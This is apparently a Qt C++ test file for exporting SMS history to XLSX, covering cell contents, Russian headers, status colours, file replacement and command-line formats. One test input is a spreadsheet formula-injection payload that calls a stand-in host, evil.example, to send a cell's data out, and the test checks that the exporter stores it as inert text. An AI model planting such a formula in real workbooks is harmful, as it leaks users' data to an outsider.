#include "history/HistoryXlsx.h"
#include "HistoryRecords.h"
#include "TestProfile.h"
#include "XlsxSheet.h"
#include "history/HistoryFile.h"

#include <QDir>
#include <QJsonArray>
#include <QProcess>
#include <QTest>

using HistoryRecords::record;

class HistoryXlsxTest : public QObject {
    Q_OBJECT
    TestProfile m_profile;
    const QString m_path = m_profile.root() + QStringLiteral("/история.xlsx");

    QJsonObject exported(const QList<TMess>& records, const QString& contact = {}) const {
        HistoryXlsx workbook(m_path);
        for (const TMess& one : records)
            workbook.appendRow(one, contact);
        const QString error = workbook.close();
        return error.isEmpty() ? readXlsx(m_path) : QJsonObject{{"error", error}};
    }

private slots:
    // Whatever a field holds, it stays the text it is; the moment is a real date-time.
    void textCells_data() {
        QTest::addColumn<QString>("text");
        for (const char* text :
             {"+79161234567", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажми\")", "=1+2",
              "@SUM(A1)", "-x", "-5", "007", "08.12.2026", "Привет, Ёлка", "строка\nвторая"})
            QTest::newRow(text) << QString::fromUtf8(text);
    }
    void textCells() {
        QFETCH(QString, text);
        const QJsonObject sheet = exported({record(7, text, text, 11, text, text)}, text);
        const QString cell = QStringLiteral("text:") + text;
        QCOMPARE(xlsxRow(sheet, 2, 8), (QStringList{"number:7", "date:2026-12-08T10:00:00", cell,
                                                    cell, cell, cell, cell, "text:Доставлено"}));
        QCOMPARE(sheet["formulas"].toInt(-1), 0);
    }

    // Bold Russian titles kept in view, a filter over every row, the status on the history
    // window's colour, no date for a moment that is none, columns as wide as their content up
    // to 60.
    void sheetLayout() {
        QList<TMess> records{record(1, "+7916", QString(300, u'ж'), 1)};
        for (const quint8 status : {5, 3, 10, 11, 12, 255})
            records.append(record(records.size() + 1, "+7916", "Привет", status));
        records[1].Date = 1e12;
        const QJsonObject sheet = exported(records);
        QCOMPARE(xlsxRow(sheet, 1, 8),
                 (QStringList{"text:№", "text:Отправлено", "text:Номер", "text:Контакт",
                              "text:Отправитель", "text:Текст", "text:Подпись", "text:Статус"}));
        QVERIFY(sheet["cells"]["H1"]["bold"].toBool() && !sheet["cells"]["H2"]["bold"].toBool());
        QCOMPARE(sheet["frozen"].toString(), QStringLiteral("A2"));
        QCOMPARE(sheet["autofilter"].toString(), QStringLiteral("A1:H8"));
        QCOMPARE(xlsxRow(sheet, 3, 2), (QStringList{"number:2", ""}));
        QStringList statuses;
        for (int row = 2; row <= 8; ++row)
            statuses << xlsxRow(sheet, row, 8).last() + u'/' +
                            sheet["cells"][QStringLiteral("H%1").arg(row)]["fill"].toString();
        QCOMPARE(statuses, (QStringList{"text:В очереди/C3C3C3", "text:Ошибка при отправке/FFCCCC",
                                        "text:Не отправлено (кончились СМС)/9C9CFF",
                                        "text:Отправлено/", "text:Доставлено/AAFFAA",
                                        "text:Истекло время ожидания/E19AFF", "/"}));
        QCOMPARE(int(sheet["widths"][5].toDouble()), 60);
        QCOMPARE(int(sheet["widths"][1].toDouble()), 20);
    }

    // The file is made beside the target and renamed over it, keeping the old one's mode; a
    // failure leaves nothing behind.
    void replacesTarget() {
        QFile old(m_path);
        QVERIFY(old.open(QIODevice::WriteOnly) &&
                old.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup));
        old.close();
        const QFile::Permissions mode = old.permissions();
        QCOMPARE(exported({record(1, "+7916", "Привет")})["autofilter"].toString(), "A1:H2");
        QCOMPARE(old.permissions(), mode);

        const QString folder = m_profile.root() + QStringLiteral("/taken/папка.xlsx");
        QVERIFY(QDir().mkpath(folder));
        QVERIFY(!HistoryXlsx(folder).close().isEmpty());
        QCOMPARE(
            QDir(folder + "/..").entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
            QStringList{"папка.xlsx"});
    }

    // varnelo-cli writes a workbook only to a file; the other formats go to one on request.
    void commandLine_data() {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("code");
        QTest::addColumn<QByteArray>("begins");
        QTest::newRow("history xlsx")
            << QStringList{"history", "--format=xlsx", "--output", "OUT"} << 0 << QByteArray("PK");
        QTest::newRow("history xlsx to stdout")
            << QStringList{"history", "--format", "xlsx"} << 2 << QByteArray();
        QTest::newRow("history csv") << QStringList{"history", "--format", "csv", "--output=OUT"}
                                     << 0 << QByteArray("id,sent,number");
        QTest::newRow("history tsv")
            << QStringList{"history", "--output", "OUT"} << 0 << QByteArray("1\t08.12.2026");
        QTest::newRow("contacts xlsx")
            << QStringList{"contacts", "export", "--output", "OUT", "--format", "xlsx"} << 0
            << QByteArray("PK");
        QTest::newRow("contacts xlsx to stdout")
            << QStringList{"contacts", "export", "--format", "xlsx"} << 2 << QByteArray();
    }
    void commandLine() {
        QFETCH(QStringList, arguments);
        QFETCH(int, code);
        QFETCH(QByteArray, begins);
        QDir().mkpath(m_profile.dataFolder());
        QCOMPARE(HistoryFile().rewrite({record(1, "+7916", "=1+2")}), QString());
        const QString out = m_profile.root() + QStringLiteral("/вывод");
        QFile::remove(out);
        QProcess cli;
        cli.start(QStringLiteral(VARNELO_CLI_EXE), arguments.replaceInStrings("OUT", out));
        QVERIFY(cli.waitForFinished(60000));
        QVERIFY2(cli.exitCode() == code, cli.readAllStandardError().constData());
        QFile written(out);
        QCOMPARE(written.open(QIODevice::ReadOnly) ? written.read(begins.size()) : "none",
                 code == 0 ? begins : "none");
        if (arguments == QStringList{"history", "--format=xlsx", "--output", out})
            QCOMPARE(xlsxRow(readXlsx(out), 2, 3),
                     (QStringList{"number:1", "date:2026-12-08T10:00:00", "text:+7916"}));
    }
};

QTEST_GUILESS_MAIN(HistoryXlsxTest)
#include "HistoryXlsxTest.moc"
